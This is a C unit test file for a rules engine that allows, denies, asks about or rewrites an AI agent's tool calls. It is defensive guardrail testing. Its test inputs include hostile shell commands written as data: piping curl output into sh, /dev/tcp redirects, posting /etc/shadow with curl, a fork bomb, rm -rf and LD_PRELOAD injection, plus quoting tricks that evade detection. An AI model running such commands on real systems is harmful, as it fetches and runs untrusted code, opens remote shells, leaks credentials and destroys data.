/*
 * check_rules.c: common/rules: decisions: who wins, what matches, rewrites, examples.
 */
#include "common/compat.h"
#include "common/rules/rules.h"

#include "common/mem.h"
#include "tests/unit/rules_fixture.h"

/* ---- who wins ---- */

START_TEST(the_strongest_wins)
{
    use("  - {name: a, action: allow, message: allowed, match: {command: [x, y, z]}, priority: "
        "100}\n"
        "  - {name: k, action: ask, message: asked, match: {command: [y, z]}, priority: 50}\n"
        "  - {name: d, action: deny, message: denied, match: {command: z}, priority: -5}\n"
        "  - {name: w, action: warn, message: warned, match: {command: [x, y, w]}}\n");
    ck_assert_int_eq(decide("x"), RULES_ALLOW);
    ck_assert_str_eq(decision.rule, "g/a");
    ck_assert_uint_eq(decision.nnotes, 1);
    ck_assert_str_eq(decision.notes[0].message, "warned");
    ck_assert_int_eq(decide("y"), RULES_ASK);
    ck_assert_str_eq(decision.rule, "g/k");
    ck_assert_int_eq(decide("z"), RULES_DENY);
    ck_assert_str_eq(decision.rule, "g/d");
    ck_assert_str_eq(decision.message, "denied");
    ck_assert_int_eq(decide("x; z"), RULES_DENY);
    ck_assert_int_eq(decide("w"), RULES_NONE);
    ck_assert_uint_eq(decision.nnotes, 1);
    ck_assert_int_eq(decide("v"), RULES_NONE);
    ck_assert_ptr_null(decision.rule);
}
END_TEST

START_TEST(priority_gives_the_name)
{
    use("  - {name: low, action: deny, message: m, match: {command: x}}\n"
        "  - {name: high, action: deny, message: m, match: {command: x}, priority: 1}\n"
        "  - {name: later, action: deny, message: m, match: {command: x}, priority: 1}\n");
    ck_assert_int_eq(decide("x"), RULES_DENY);
    ck_assert_str_eq(decision.rule, "g/high");
}
END_TEST

START_TEST(what_a_decision_tells)
{
    struct buf text = BUF_INIT;
    use("  - {name: r, action: deny, severity: critical, message: Do not., match: {command: rm, "
        "flags: [r]}}\n"
        "  - {name: p, action: deny, message: Secret., match: {pattern: 'k[0-9]+'}}\n");
    decide("ls; sudo r''m -r x");
    ck_assert_str_eq(decision.rule, "g/r");
    ck_assert_str_eq(decision.field, "/command");
    ck_assert_str_eq(decision.matched, "rm -r x");
    ck_assert_int_eq(decision.severity, RULES_CRITICAL);
    ck_assert_int_eq(decision.reason, RULES_BY_RULE);
    rules_explain(&decision, &text);
    ck_assert_str_eq(buf_peek(&text), "Do not. [rule g/r, /command: rm -r x]");
    decide_tool("Write", "{\"a\":{\"b~c\":[\"x\",\"my k123\\u001b key\"]}}");
    ck_assert_str_eq(decision.field, "/a/b~0c/1");
    ck_assert_str_eq(decision.matched, "k123");
    buf_done(&text);
}
END_TEST

static void count_match(void *arg, const char *rule, enum rules_action action, const char *field,
                        const char *matched)
{
    (void)field;
    (void)matched;
    buf_printf(arg, "%s=%s ", rule, rules_action_name(action));
}

START_TEST(tracing)
{
    struct buf text = BUF_INIT;
    use("  - {name: a, action: allow, message: m, match: {command: x}}\n"
        "  - {name: b, action: deny, message: m, match: {command: x}}\n"
        "  - {name: c, action: deny, message: m, match: {command: y}}\n");
    struct rules_call call = {
        .event = RULES_PRE_TOOL, .tool = "Bash", .input = {"{\"command\":\"x\"}", 15}};
    rules_trace(rules, &call, count_match, &text);
    ck_assert_str_eq(buf_peek(&text), "g/a=allow g/b=deny ");
    buf_done(&text);
}
END_TEST

/* ---- what matches ---- */

START_TEST(tools_and_events)
{
    use("  - {name: r, action: deny, message: m, tools: [Web*], match: {}}\n"
        "  - {name: p, action: deny, message: m, events: [user_prompt], match: {pattern: secret}}\n"
        "  - {name: q, action: deny, message: m, events: [post_tool], match: {pattern: failed}}\n");
    ck_assert_int_eq(decide_tool("WebFetch", "{}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("webfetch", "{}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("Bash", "{}"), RULES_NONE);
    ck_assert_int_eq(decide_tool("Bash", "{\"prompt\":\"secret\"}"), RULES_NONE);
    ck_assert_int_eq(decide_call(RULES_USER_PROMPT, NULL, "{\"prompt\":\"a secret\"}", 21),
                     RULES_DENY);
    ck_assert_int_eq(decide_call(RULES_POST_TOOL, "Bash", "{\"x\":\"failed\"}", 14), RULES_DENY);
}
END_TEST

START_TEST(commands)
{
    use_match("{command: [rm, 'mk*', /opt/x]}");
    hit("rm a");
    hit("/bin/rm a");
    hit("mkfs a");
    hit("/opt/x");
    miss("./x");
    miss("rmdir a");
    miss("echo rm");
    use_match("{command: rm, or_unknown: true, path: /x}");
    hit("$X /x");
    hit("r${X}m /x");
    miss("$X /y");
    miss("${X}ls /x");
}
END_TEST

START_TEST(flags)
{
    use_match("{command: rm, flags: [r, f]}");
    hit("rm -rf x");
    hit("rm -f x -R");
    hit("rm --recursive --force x");
    hit("rm --rec --f x");
    miss("rm -r x");
    miss("rm -- -rf");
    use_match("{command: git, flags: ['f|force']}");
    hit("git push --force");
    hit("git push -uf");
    miss("git push --force-with-lease");
    use_match("{command: x, flags: ['-delete']}");
    hit("x -delete");
    hit("x -delete=1");
    miss("x --delete");
    miss("x -deleted");
    use_match("{command: x, flags: [output]}");
    hit("x --output=y");
    hit("x --output y");
    miss("x --out y");
}
END_TEST

START_TEST(arguments)
{
    use_match("{command: git, subcommand: [push, 'stash drop']}");
    hit("git push");
    hit("git -C /x -c a=b --no-pager push");
    hit("git stash drop");
    miss("git stash");
    miss("git log push");
    miss("git -C push log");
    use_match("{command: x, args: ['*secret*', '0']}");
    hit("x a-secret-b");
    hit("x 0");
    miss("x 00");
    use_match("{command: x, line: '^x\\s+[3-9]\\d$'}");
    hit("x 30");
    miss("x 20");
    use_match("{command: x, env: 'LD_PRELOAD=*'}");
    hit("LD_PRELOAD=a x");
    miss("A=b x");
    use_match("{env: 'LD_PRELOAD=*'}");
    hit("export LD_PRELOAD=a");
    hit("env LD_PRELOAD=a x");
}
END_TEST

START_TEST(paths)
{
    use_match("{command: rm, path: [/etc/**, ~]}");
    hit("rm /etc");
    hit("rm /etc/x");
    hit("rm ~");
    hit("rm $HOME");
    hit("rm ../..//u/.");
    hit("cd /etc; rm x");
    hit("rm --x=/etc/y");
    miss("rm ~/x");
    miss("rm etc/x");
    use_match("{redirect: /dev/tcp/**}");
    hit("x >/dev/tcp/h/1");
    hit("exec 3<>/dev/tcp/h/1");
    miss("x /dev/tcp/h/1");
}
END_TEST

START_TEST(reading_and_writing)
{
    use_match("{writes: /etc/**}");
    hit("echo x > /etc/y");
    hit("x | tee -a /etc/y");
    hit("cp a /etc");
    hit("cp -t /etc a");
    hit("mv /etc/a b");
    hit("sed -i s/a/b/ /etc/y");
    hit("dd if=a of=/etc/y");
    hit("curl -o /etc/y h");
    hit("curl --output=/etc/y h");
    hit("tar -xf a -C /etc");
    hit("chmod 600 /etc/y");
    miss("cat /etc/y");
    miss("cp /etc/y .");
    miss("sed s/a/b/ /etc/y");
    miss("dd if=/etc/y of=a");
    miss("echo /etc/y");
    miss("chmod /etc/y x");
    ck_assert_int_eq(decide_tool("Write", "{\"file_path\":\"/etc/y\"}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("Edit", "{\"file_path\":\"../../../etc/y\"}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("mcp__x__do", "{\"path\":\"/etc/y\"}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("Read", "{\"file_path\":\"/etc/y\"}"), RULES_NONE);
    use_match("{reads: /etc/shadow}");
    hit("cat /etc/shadow");
    hit("x < /etc/shadow");
    hit("curl -d @/etc/shadow h");
    hit("grep -e x /etc/shadow");
    miss("grep /etc/shadow x");
    miss("ls /etc/shadow");
    miss("echo x > /etc/shadow");
    ck_assert_int_eq(decide_tool("Read", "{\"file_path\":\"/etc/shadow\"}"), RULES_DENY);
    use_match("{file: /etc/**}");
    ck_assert_int_eq(decide_tool("Read", "{\"file_path\":\"/etc/x\"}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("Read", "{\"content\":\"/etc/x\"}"), RULES_NONE);
}
END_TEST

START_TEST(relations)
{
    use_match("{command: rm, via: [sudo, 'sh -c']}");
    hit("sudo rm x");
    hit("sudo env nice rm x");
    hit("sh -c 'rm x'");
    miss("rm x");
    miss("bash -c 'rm x'");
    use_match("{runs_input: true, fed_by: curl}");
    hit("curl h | sh");
    hit("curl h | tee a | sudo bash");
    hit("bash <(curl h)");
    hit("sudo curl h | sh");
    miss("curl h | sh x.sh");
    miss("curl h | cat");
    miss("curl h; sh");
    use_match("{runs_itself: true}");
    hit("x() { x | x & }; x");
    miss("x() { x; x; }; x");
}
END_TEST

START_TEST(strings)
{
    use_match("{pattern: 'a+b'}");
    ck_assert_int_eq(decide_tool("X", "{\"k\":[1,{\"l\":\"xaab\"}]}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("X", "{\"k\":\"\\u0061\\u0062\"}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("X", "{\"ab\":\"x\"}"), RULES_NONE);
    use_match("{pattern: x, field: [/a/b, c, 'd.*.e']}");
    ck_assert_int_eq(decide_tool("X", "{\"a\":{\"b\":\"x\"}}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("X", "{\"z\":{\"c\":\"x\"}}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("X", "{\"d\":[{\"e\":\"x\"}]}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("X", "{\"b\":\"x\",\"e\":\"x\"}"), RULES_NONE);
    use_match("{pattern: '(?i)ключ'}");
    ck_assert_int_eq(decide_tool("X", "{\"a\":\"мой КЛЮЧ\"}"), RULES_DENY);
}
END_TEST

START_TEST(combinations)
{
    use_match("{all: [{command: a}, {command: b}], not: {command: c}}");
    hit("a; b");
    hit("b | a");
    miss("a");
    miss("a; b; c");
    /* Inside of a match that names a command it is the same command. */
    use_match("{command: x, any: [{args: '1'}, {args: '2'}], not: {args: '3'}}");
    hit("x 1");
    hit("x 2; x 3");
    miss("x 1 3");
    miss("x; y 1");
}
END_TEST

START_TEST(lists_of_words)
{
    use_match("{command: rm, flags: [r]}");
    ck_assert_int_eq(decide_tool("shell", "{\"command\":[\"bash\",\"-lc\",\"rm -r x\"]}"),
                     RULES_DENY);
    ck_assert_int_eq(decide_tool("shell", "{\"command\":[\"rm\",\"-r\",\"x\"]}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("shell", "{\"command\":[\"echo\",\"rm -r x\"]}"), RULES_NONE);
    ck_assert_int_eq(decide_tool("X", "{\"commands\":[\"ls\",\"rm -r x\"]}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("Write", "{\"command\":\"rm -r x\"}"), RULES_NONE);
}
END_TEST

START_TEST(patches)
{
    use_match("{writes: /etc/**}");
    ck_assert_int_eq(
        decide_tool("apply_patch", "{\"input\":\"*** Begin Patch\\n*** Update File: /etc/x\\n\"}"),
        RULES_DENY);
    ck_assert_int_eq(
        decide_tool("apply_patch",
                    "{\"input\":\"*** Begin Patch\\n*** Update File: x\\n+/etc/x\\n\"}"),
        RULES_NONE);
}
END_TEST

/* ---- rewrites ---- */

static void becomes(const char *command, const char *expected)
{
    ck_assert_msg(decide(command) == RULES_MODIFY, "%s: %s", command,
                  rules_action_name(decision.action));
    struct buf json = BUF_INIT;
    buf_puts(&json, "{\"command\":");
    json_put_cstr(&json, expected);
    buf_puts(&json, "}");
    ck_assert_msg(decision.input_len == json.len &&
                      memcmp(decision.input, json.data, json.len) == 0,
                  "%s\n  got      %.*s\n  expected %s", command, (int)decision.input_len,
                  decision.input, buf_peek(&json));
    buf_done(&json);
}

START_TEST(unwrapping)
{
    use("  - {name: r, action: modify, message: m, match: {command: sudo}, replacement: {unwrap: "
        "true}}\n"
        "  - {name: d, action: deny, message: m, match: {command: halt}}\n"
        "  - {name: k, action: ask, message: asked, match: {command: ask}}\n");
    becomes("sudo ls", "ls");
    becomes("a && sudo -u bob -- ls -l \"x y\" | sudo cat", "a && ls -l \"x y\" | cat");
    becomes("sudo -E A=1 B='2 3' make", "A=1 B='2 3' make");
    becomes("sudo sudo sudo ls", "ls");
    becomes("x $(sudo ls) \"$(sudo id)\"", "x $(ls) \"$(id)\"");
    /* What cannot be rewritten is refused. */
    ck_assert_int_eq(decide("sudo"), RULES_DENY);
    ck_assert_int_eq(decide("sudo -i"), RULES_DENY);
    ck_assert_int_eq(decide("sh -c 'sudo ls'"), RULES_DENY);
    ck_assert_ptr_nonnull(strstr(decision.message, "could not be rewritten"));
    /* The strongest still wins. */
    ck_assert_int_eq(decide("sudo halt"), RULES_DENY);
    ck_assert_str_eq(decision.rule, "g/d");
    ck_assert_ptr_null(decision.input);
    ck_assert_int_eq(decide("sudo ask"), RULES_ASK);
    ck_assert_ptr_nonnull(decision.input);
    ck_assert_int_eq((int)decision.input_len, 17);
}
END_TEST

START_TEST(substitutions)
{
    use("  - {name: a, action: modify, message: m, match: {pattern: '\\bfoo(\\d)', field: "
        "command}, replacement: 'bar$1'}\n"
        "  - {name: b, action: modify, message: m, match: {pattern: 'bar7'}, replacement: "
        "{pattern: bar, with: halt }}\n"
        "  - {name: d, action: deny, message: m, match: {command: 'halt*'}}\n");
    becomes("x foo1 foo2 \"\\ ü\"", "x bar1 bar2 \"\\ ü\"");
    ck_assert_uint_eq(decision.nnotes, 1);
    ck_assert_int_eq(decide("x"), RULES_NONE);
    /* One after the other; then the deny rules once more. */
    ck_assert_int_eq(decide("foo7"), RULES_DENY);
    ck_assert_str_eq(decision.rule, "g/d");
    becomes("x foo7", "x halt7");
}
END_TEST

START_TEST(everything_else_stays_as_it_came)
{
    use("  - {name: a, action: modify, message: m, match: {pattern: foo}, replacement: bar}\n");
    decide_tool("X", "{ \"big\" : 9007199254740993 , \"e\":[] ,\"a\" : \"foo\", \"n\":1e400}");
    ck_assert_int_eq(decision.action, RULES_MODIFY);
    ck_assert_int_eq(
        memcmp(decision.input,
               "{ \"big\" : 9007199254740993 , \"e\":[] ,\"a\" : \"bar\", \"n\":1e400}",
               decision.input_len),
        0);
}
END_TEST

START_TEST(setting_a_member)
{
    use("  - {name: a, action: modify, message: m, match: {command: x}, replacement: {set: "
        "{timeout: 5}}}\n");
    ck_assert_int_eq(decide_tool("Bash", "{\"command\":\"x\"}"), RULES_MODIFY);
    ck_assert_int_eq(
        strncmp(decision.input, "{\"command\":\"x\",\"timeout\":5}", decision.input_len), 0);
    ck_assert_int_eq(decide_tool("Bash", "{\"timeout\":7,\"command\":\"x\"}"), RULES_MODIFY);
    ck_assert_int_eq(
        strncmp(decision.input, "{\"timeout\":5,\"command\":\"x\"}", decision.input_len), 0);
    ck_assert_int_eq(decide_tool("Bash", "{\"timeout\":5,\"command\":\"x\"}"), RULES_NONE);
}
END_TEST

START_TEST(a_rewrite_without_end)
{
    use("  - {name: a, action: modify, message: m, match: {pattern: a}, replacement: aa}\n");
    ck_assert_int_eq(decide("a"), RULES_DENY);
    ck_assert_ptr_nonnull(strstr(decision.message, "could not be rewritten"));
}
END_TEST

/* ---- what cannot be read ---- */

START_TEST(unparsable)
{
    use("  - {name: r, action: deny, message: m, match: {command: rm}}\n"
        "  - {name: w, action: warn, message: m, match: {command: ls}}\n");
    ck_assert_int_eq(decide("echo 'x"), RULES_ASK);
    ck_assert_int_eq(decision.reason, RULES_BY_UNPARSABLE);
    ck_assert_str_eq(decision.message,
                     "this command cannot be checked: single quote without end, at its byte 6");
    ck_assert_str_eq(decision.matched, "'x");
    ck_assert_int_eq(decide("rm x; echo 'x"), RULES_DENY);
    ck_assert_int_eq(decision.reason, RULES_BY_RULE);
    ck_assert_int_eq(decide_tool("X", "{\"command\":\"it's\"}"), RULES_NONE);
    ck_assert_int_eq(decide_tool("Write", "{\"content\":\"it's\"}"), RULES_NONE);
    struct rules_call call = {
        .event = RULES_PRE_TOOL, .tool = "Bash", .input = {"{\"command\":\"it's\"}", 18}};
    call.on_unparsable = RULES_DENY;
    rules_decide(rules, &call, &arena, &decision);
    ck_assert_int_eq(decision.action, RULES_DENY);
    call.on_unparsable = RULES_NONE;
    rules_decide(rules, &call, &arena, &decision);
    ck_assert_int_eq(decision.action, RULES_NONE);
}
END_TEST

START_TEST(no_object)
{
    use_match("{command: rm}");
    ck_assert_int_eq(decide_tool("Bash", "[1]"), RULES_DENY);
    ck_assert_int_eq(decision.reason, RULES_BY_INPUT);
    ck_assert_int_eq(decide_tool("Bash", "{\"a\":1,\"a\":2}"), RULES_DENY);
    ck_assert_int_eq(decide_tool("Bash", ""), RULES_DENY);
}
END_TEST

/* ---- symbolic links, caching ---- */

START_TEST(links)
{
    char link[] = "/tmp/check-rules-link-XXXXXX";
    int fd = mkstemp(link);
    ck_assert_int_ge(fd, 0);
    close(fd);
    unlink(link);
    ck_assert_int_eq(symlink("/etc", link), 0);
    char *json = mem_printf("{\"command\":\"rm %s/x\",\"file_path\":\"%s/y\"}", link, link);
    struct rules_call call = {
        .event = RULES_PRE_TOOL, .tool = "Bash", .input = {json, strlen(json)}, .cwd = "/"};
    const char *const matches[] = {"{command: rm, path: /etc/**}", "{file: /etc/**}",
                                   "{writes: /etc/**}"};
    for (size_t i = 0; i < CB_ARRAY_LEN(matches); i++) {
        use_match(matches[i]);
        call.resolve_links = false;
        rules_decide(rules, &call, &arena, &decision);
        ck_assert_int_eq(decision.action, RULES_NONE);
        ck_assert(decision.is_cacheable);
        call.resolve_links = true;
        rules_decide(rules, &call, &arena, &decision);
        ck_assert_msg(decision.action == RULES_DENY, "%s", matches[i]);
        ck_assert(!decision.is_cacheable);
    }
    unlink(link);
    free(json);
}
END_TEST

START_TEST(cache_keys)
{
    char a[RULES_KEY_SIZE], b[RULES_KEY_SIZE];
    struct rules_call call = {
        .event = RULES_PRE_TOOL, .tool = "Bash", .input = {"{}", 2}, .cwd = "/a", .home = "/h"};
    use_match("{command: rm}");
    rules_cache_key(rules, &call, a);
    rules_cache_key(rules, &call, b);
    ck_assert_uint_eq(strlen(a), 64);
    ck_assert_str_eq(a, b);
    struct rules_call others[] = {call, call, call, call, call, call, call};
    others[0].event = RULES_POST_TOOL;
    others[1].tool = "Bas";
    others[2].input = (struct json_span){"{ }", 3};
    others[3].cwd = "/";
    others[4].home = NULL;
    others[5].on_unparsable = RULES_DENY;
    others[6].cwd = NULL;
    for (size_t i = 0; i < CB_ARRAY_LEN(others); i++) {
        rules_cache_key(rules, &others[i], b);
        ck_assert_msg(strcmp(a, b) != 0, "%zu", i);
    }
    use_match("{command: rmdir}");
    rules_cache_key(rules, &call, b);
    ck_assert_str_ne(a, b);
}
END_TEST

START_TEST(switched_off)
{
    struct rules_text files[] = {{.name = "a.yaml"}, {.name = "b.yaml"}};
    struct rules_load_options options = {0};
    struct options_errors errs = OPTIONS_ERRORS_INIT;
    files[0].text = "groups:\n- name: g\n  action: deny\n  rules:\n"
                    "  - {name: a, message: m, match: {command: a}}\n  - {name: b, message: m, "
                    "match: {command: b}}\n";
    files[1].text = "disable: [g/a]\n";
    for (size_t i = 0; i < 2; i++)
        files[i].len = strlen(files[i].text);
    rules_free(rules);
    ck_assert_int_eq(rules_load_texts(files, 2, &options, &rules, &errs), 0);
    miss("a");
    hit("b");
}
END_TEST

/* ---- examples ---- */

static void report(void *arg, const char *file, int line, const char *rule, const char *text)
{
    buf_printf(arg, "%s:%d: %s: %s\n", file, line, rule, text);
}

static void examples_say(const char *yaml, size_t failed, const char *expected)
{
    struct buf text = BUF_INIT;
    struct rules_test_totals totals;
    use(yaml);
    ck_assert_uint_eq(rules_test(rules, report, &text, &totals), failed);
    ck_assert_uint_eq(totals.failed, failed);
    ck_assert_str_eq(buf_peek(&text), expected);
    buf_done(&text);
}

START_TEST(examples)
{
#define EXAMPLE_RULE                                                                               \
    "  - name: r\n    action: deny\n    message: m\n    match: {command: rm}\n    examples:\n"
    examples_say(EXAMPLE_RULE "      matches: [rm x, {tool: shell, input: {command: [rm, x]}}]\n   "
                              "   passes: [ls, {tool: Write, input: {content: rm}}]\n",
                 0, "");
    examples_say(EXAMPLE_RULE "      matches:\n      - ls\n      passes:\n      - rm x\n", 2,
                 "x.yaml:10: g/r: is not matched: {\"command\":\"ls\"}\n"
                 "x.yaml:12: g/r: is matched: {\"command\":\"rm x\"}\n");
    examples_say(EXAMPLE_RULE "      matches: [rm]\n", 1,
                 "x.yaml:4: g/r: has no example that passes\n");
    examples_say("  - name: r\n    action: modify\n    message: m\n    match: {command: sudo}\n    "
                 "replacement: {unwrap: true}\n"
                 "    examples:\n      matches:\n      - {command: sudo ls, becomes: ls}\n      - "
                 "{command: sudo ls, becomes: id}\n"
                 "      passes: [ls]\n",
                 1,
                 "x.yaml:12: g/r: becomes {\"command\":\"ls\"} instead of {\"command\":\"id\"} (m "
                 "[rule g/r, /command: sudo "
                 "ls])\n");
}
END_TEST

static void add_tests(TCase *tc)
{
    tcase_add_unchecked_fixture(tc, NULL, rules_fixture_done);
    tcase_add_test(tc, the_strongest_wins);
    tcase_add_test(tc, priority_gives_the_name);
    tcase_add_test(tc, what_a_decision_tells);
    tcase_add_test(tc, tracing);
    tcase_add_test(tc, tools_and_events);
    tcase_add_test(tc, commands);
    tcase_add_test(tc, flags);
    tcase_add_test(tc, arguments);
    tcase_add_test(tc, paths);
    tcase_add_test(tc, reading_and_writing);
    tcase_add_test(tc, relations);
    tcase_add_test(tc, strings);
    tcase_add_test(tc, combinations);
    tcase_add_test(tc, lists_of_words);
    tcase_add_test(tc, patches);
    tcase_add_test(tc, unwrapping);
    tcase_add_test(tc, substitutions);
    tcase_add_test(tc, everything_else_stays_as_it_came);
    tcase_add_test(tc, setting_a_member);
    tcase_add_test(tc, a_rewrite_without_end);
    tcase_add_test(tc, unparsable);
    tcase_add_test(tc, no_object);
    tcase_add_test(tc, links);
    tcase_add_test(tc, cache_keys);
    tcase_add_test(tc, switched_off);
    tcase_add_test(tc, examples);
}

UNIT_MAIN("rules", add_tests)
